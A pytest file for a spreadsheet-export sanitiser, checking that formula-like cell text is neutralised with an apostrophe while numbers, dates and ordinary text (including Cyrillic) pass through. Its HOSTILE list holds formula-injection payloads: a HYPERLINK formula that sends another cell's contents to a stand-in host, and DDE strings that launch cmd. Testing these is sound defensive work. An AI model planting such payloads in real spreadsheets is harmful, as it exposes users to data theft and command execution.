"""Cells of exported spreadsheets: formulas arrive as text, numbers as numbers — no app, no database."""
from __future__ import annotations

import io

import pytest
from openpyxl import Workbook, load_workbook

from matcher.services.spreadsheet_cells import append_row, safe_cell, safe_row, safe_text
from matcher.text_safety import clean_text

HOSTILE = [
    '=HYPERLINK("http://x/?"&B3,"Alpha")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\n@SUM(1)",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_a_spreadsheet_would_run_as_a_formula_is_prefixed_with_an_apostrophe(text):
    safe = safe_text(text)
    assert safe.startswith("'") and safe[1:] == clean_text(text)


@pytest.mark.parametrize("text", ["Амкодор", "Amkodor JSC", "ООО «Ромашка» = лучшие", "8436 80", "", "'quoted"])
def test_ordinary_text_is_left_as_it_is(text):
    assert safe_text(text) == text


def test_numbers_dates_and_empty_cells_stay_what_they_are():
    from datetime import datetime

    moment = datetime(2027, 9, 14, 10, 0)
    assert safe_row([-5, -5.5, 0, 87.25, None, True, moment]) == [-5, -5.5, 0, 87.25, None, True, moment]
    assert safe_cell("-5") == "'-5"  # text that looks like a number is still text, and is written as such


def test_control_bidi_and_zero_width_characters_are_dropped_from_cells():
    assert safe_text("Amko\x1b[31mdor\u202e\u200b") == "Amko[31mdor"


def test_a_row_appended_to_a_sheet_has_no_formula_cell_and_keeps_numbers_numeric():
    workbook = Workbook()
    append_row(workbook.active, [*HOSTILE, -12.5, 40, "Amko\x07dor"])  # BEL would make openpyxl raise
    out = io.BytesIO()
    workbook.save(out)
    cells = list(load_workbook(io.BytesIO(out.getvalue())).active.iter_rows())[0]
    assert all(cell.data_type != "f" for cell in cells)
    texts = [cell.value for cell in cells[:len(HOSTILE)]]
    assert all(isinstance(t, str) and t.startswith("'") for t in texts)
    assert [cell.value for cell in cells[len(HOSTILE):]] == [-12.5, 40, "Amkodor"]
    assert cells[len(HOSTILE)].data_type == "n"
